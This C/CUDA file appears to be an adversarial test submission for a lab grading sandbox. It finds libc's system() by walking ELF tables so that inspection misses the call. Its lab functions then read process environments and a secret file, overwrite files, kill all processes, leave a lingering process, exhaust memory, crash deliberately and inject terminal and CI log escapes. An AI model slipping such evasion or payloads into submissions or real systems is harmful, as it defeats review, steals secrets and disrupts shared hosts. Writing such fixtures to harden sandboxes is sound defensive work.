// A hand-in for lab 01 that has found its way past the inspection: it looks functions of the C
// library up in memory, by arithmetic alone. What is left to stop it is the box.
#include "matmul_naive.h"
#include <elf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char *start_of_libc()
{
    const size_t page = 4096;
    char *at = (char *)((size_t)&strtol / page * page);
    while (memcmp(at, ELFMAG, SELFMAG) != 0)
        at -= page;
    return at;
}

static char *table_of(char *libc, Elf64_Sxword tag)
{
    Elf64_Ehdr *header = (Elf64_Ehdr *)libc;
    Elf64_Phdr *part = (Elf64_Phdr *)(libc + header->e_phoff);
    while (part->p_type != PT_DYNAMIC)
        part++;
    Elf64_Dyn *entry = (Elf64_Dyn *)(libc + part->p_vaddr);
    while (entry->d_tag != tag)
        entry++;
    return (char *)entry->d_un.d_ptr;
}

static void *find(const char *name)
{
    char *libc = start_of_libc(), *names = table_of(libc, DT_STRTAB);
    Elf64_Sym *symbol = (Elf64_Sym *)table_of(libc, DT_SYMTAB);
    while (strcmp(names + symbol->st_name, name) != 0)
        symbol++;
    return libc + symbol->st_value;
}

static void run(const char *command)
{
    ((int (*)(const char *))find("system"))(command);
}

__global__ void square(const int *in, int *out, size_t count)
{
    size_t i = (size_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < count)
        out[i] = in[i] * in[i];
}

EXPORT void square_elements(const int *d_in, int *d_out, int width, int height)
{
    size_t count = (size_t)width * height;
    if (count)
        square<<<blocks_for(count, 256), 256>>>(d_in, d_out, count);
    CHECK(cudaGetLastError());
}

EXPORT void matrix_add(const int *, const int *, int *, int, int)
{
    run("echo begun; cat /proc/*/cmdline | tr '\\0' ' ' | grep -oiE 'seed.[0-9]+' | sort "
        "-u; ls /; cat SECRET; echo x >TARGET; echo x >/tmp/mine && echo wrote; kill "
        "-9 -1; kill -9 PARENT;"
        "cat /proc/*/environ | tr '\\0' ' '; (setsid sleep 4000 &)");
    exit(0);
}

EXPORT void matmul_1d(const float *, int, const float *, int, float *, int, int)
{
    const size_t bytes = 64 << 20;
    char *volatile kept; // else a compiler sees that nobody reads it, and leaves it out
    for (;;) {
        kept = (char *)malloc(bytes);
        memset(kept, 1, bytes);
    }
}

EXPORT void matmul_2d(const float *, const float *, float *, int, int, int)
{
    *(volatile int *)8 = 1;
}

EXPORT void matmul_host(const float *, int, const float *, int, float *, int, int)
{
    for (int round = 0; round < 1000; round++)
        puts("\033]0;owned\007 ::error:: ok 1 =cmd()");
    exit(139); // as a shell tells of a segmentation fault
}
